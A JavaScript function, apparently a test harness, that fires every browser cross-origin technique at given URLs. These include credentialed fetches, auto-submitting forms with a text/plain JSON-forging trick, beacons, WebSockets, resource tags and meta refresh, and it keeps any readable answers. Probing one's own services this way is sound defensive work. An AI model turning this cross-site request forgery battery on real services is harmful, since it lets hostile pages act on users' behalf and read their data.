// What a page tries that means ill, in every way that a browser offers. `requests` are {method, url, body}.
// Returns the answers that it could read.
async (requests) => {
  const read = [];
  const types = ["text/plain", "application/x-www-form-urlencoded", "application/json", "application/x-amz-json-1.0"];
  const headersOf = {
    none: {}, key: { key: "x" }, target: { "X-Amz-Target": "AmazonSQS.CreateQueue" }, bearer: { Authorization: "Bearer x" },
  };
  const soon = (start) => new Promise((done) => { setTimeout(done, 4000); start(done); });
  const tried = [];
  const fetched = (url, options) => tried.push(fetch(url, { cache: "no-store", ...options }).then(
    async (answer) => { if (answer.type !== "opaque") read.push([options.mode, url, answer.status, await answer.text()]); },
    () => {},
  ));
  const loaded = (tag, attribute, url) => tried.push(soon((done) => {
    const element = document.createElement(tag);
    element.onload = element.onerror = done;
    element[attribute] = url;
    if (tag === "link") element.rel = "stylesheet";
    document.body.append(element);
  }));
  const framed = (html, sandbox) => tried.push(soon((done) => {
    const frame = document.createElement("iframe");
    if (sandbox) frame.sandbox = sandbox;
    frame.onload = () => setTimeout(done, 1000);
    frame.srcdoc = html;
    document.body.append(frame);
  }));
  const quoted = (text) => text.replaceAll("&", "&amp;").replaceAll('"', "&quot;");

  for (const { method, url, body } of requests) {
    for (const mode of ["cors", "no-cors", "same-origin"]) {
      for (const credentials of ["omit", "include"]) {
        fetched(url, { mode, method, body, credentials, referrerPolicy: "no-referrer" });
      }
      for (const type of types) {
        for (const headers of Object.values(headersOf)) {
          fetched(url, { mode, method, body, headers: { "Content-Type": type, ...headers } });
        }
      }
    }
    for (const other of ["GET", "PUT", "DELETE", "OPTIONS"]) fetched(url, { mode: "cors", method: other });
    for (const [tag, attribute] of [["img", "src"], ["script", "src"], ["iframe", "src"], ["link", "href"], ["audio", "src"],
      ["object", "data"]]) loaded(tag, attribute, url);
    navigator.sendBeacon(url, body);
    navigator.sendBeacon(url, new URLSearchParams(body));
    tried.push(soon((done) => {
      const socket = new WebSocket(url.replace("http", "ws"));
      socket.onopen = () => { read.push(["websocket", url]); done(); };
      socket.onerror = done;
    }));
    for (const enctype of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
      // In text/plain a field's name can be a whole JSON document, with the "=" inside a last string.
      const fields = enctype === "text/plain"
        ? [[`${(body || "{}").slice(0, -1)}, "reason": "`, '"}']]
        : [...new URLSearchParams(body)];
      const inputs = fields.map(([name, value]) => `<input name="${quoted(name)}" value="${quoted(value)}">`).join("");
      const form = `<form method="post" enctype="${enctype}" action="${quoted(url)}">${inputs}</form>`;
      for (const sandbox of ["", "allow-scripts allow-forms"]) {
        framed(`<meta name="referrer" content="no-referrer">${form}<script>document.forms[0].submit()</script>`, sandbox);
      }
    }
    framed(`<meta http-equiv="refresh" content="0;url=${quoted(url)}">`, "");
  }
  await Promise.all(tried);
  return read;
}
